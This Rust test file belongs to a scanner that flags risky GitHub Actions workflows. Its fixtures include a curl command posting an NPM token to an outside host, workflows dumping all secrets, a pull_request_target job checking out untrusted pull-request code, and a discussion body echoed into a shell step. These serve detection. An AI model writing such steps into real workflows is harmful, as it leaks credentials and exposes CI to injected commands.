use super::*;

const PATH: &str = ".github/workflows/a.yml";

fn on(names: &[&str]) -> AutoRunEvent {
    Workflow(names.iter().map(|name| (*name).to_owned()).collect())
}

#[test]
fn run_steps_are_found_with_their_events() {
    let text = "on:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - name: x\n        run: |\n          npm test\n          npm run lint\n";
    let event = on(&["pull_request", "push"]);
    let expected = [(event.clone(), "npm ci".to_owned()), (event, "npm test\nnpm run lint\n".into())];
    assert_eq!(commands(PATH, text), expected);
    assert_eq!(notes(PATH, text), []);
    let span = runs(PATH, text)[0].span;
    assert_eq!(&text[span.0..span.1], "npm ci");
    assert_eq!(commands(PATH, "on: push\njobs: {a: {steps: [{run: x}]}}")[0].0, on(&["push"]));
    assert_eq!(
        commands(PATH, "on: [push, create]\njobs: {a: {steps: [{run: x}]}}")[0].0,
        on(&["create", "push"])
    );
}

#[test]
fn all_secrets_in_one_place_are_noted() {
    for text in [
        "on: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' > x\n",
        "on: push\njobs:\n  a:\n    steps:\n      - run: x\n        env:\n          S: ${{ toJson( secrets ) }}\n",
        "on: push\nenv:\n  S: ${{ toJSON(secrets) }}\njobs:\n  a:\n    steps:\n      - run: x\n",
    ] {
        assert!(notes(PATH, text).contains(&AllSecrets), "{text}");
    }
}

#[test]
fn one_secret_in_a_command_is_noted() {
    let text = "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d '${{ secrets.NPM_TOKEN }}' https://x.invalid\n";
    assert_eq!(notes(PATH, text), [SecretInCommand]);
    let text = "on: push\njobs:\n  a:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n";
    assert_eq!(notes(PATH, text), []);
}

#[test]
fn a_strangers_code_beside_secrets_is_noted() {
    let steps = "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci\n";
    assert_eq!(notes(PATH, &format!("on: pull_request_target\n{steps}")), [PullRequestHead]);
    assert_eq!(notes(PATH, &format!("on: pull_request\n{steps}")), []);
}

#[test]
fn a_strangers_text_in_a_command_is_noted() {
    let text = "on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n";
    assert_eq!(notes(PATH, text), [StrangersText("github.event.discussion.body".into()), SelfHosted]);
}

#[test]
fn a_workflow_without_jobs_is_empty() {
    assert_eq!(runs(PATH, "name: x\n"), []);
    assert_eq!(runs(PATH, ""), []);
}
